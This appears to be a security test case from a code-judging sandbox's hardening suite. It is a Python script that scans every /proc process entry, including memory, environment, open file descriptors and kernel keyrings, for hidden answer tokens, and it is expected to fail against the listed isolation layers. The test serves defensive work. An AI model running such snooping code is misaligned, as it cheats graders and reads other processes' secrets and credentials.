# attack: /proc snooping: read every /proc/PID file (fd/*, maps, mem, environ, cmdline, stack, syscall), /proc/kallsyms, /proc/sched_debug, /proc/net/*; print any answer-looking token found
# incident: /proc snooping
# package: sec-answer
# verdicts: WA
# layer: PID namespace (only the sandbox's processes are visible); supervisor non-dumpable; the supervisor never holds answers
import os, re
tokens = set()
def scan(data):
    tokens.update(re.findall(rb"answer[0-9a-f]{32}", data))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for what in ("cmdline", "environ", "maps", "stack", "syscall", "status", "io", "mountinfo"):
        try:
            scan(open(f"/proc/{pid}/{what}", "rb").read())
        except OSError:
            pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
                scan(os.read(handle, 1 << 20))
                os.close(handle)
            except OSError:
                pass
    except OSError:
        pass
    try:
        mem = open(f"/proc/{pid}/mem", "rb")
        for line in open(f"/proc/{pid}/maps"):
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                mem.seek(lo)
                scan(mem.read(min(hi - lo, 1 << 24)))
            except (OSError, ValueError, OverflowError):
                pass
    except OSError:
        pass
for path in ("/proc/kallsyms", "/proc/sched_debug", "/proc/net/unix", "/proc/net/tcp", "/proc/keys", "/proc/key-users"):
    try:
        scan(open(path, "rb").read(1 << 20))
    except OSError:
        pass
print(b" ".join(sorted(tokens)).decode() or "not-found")
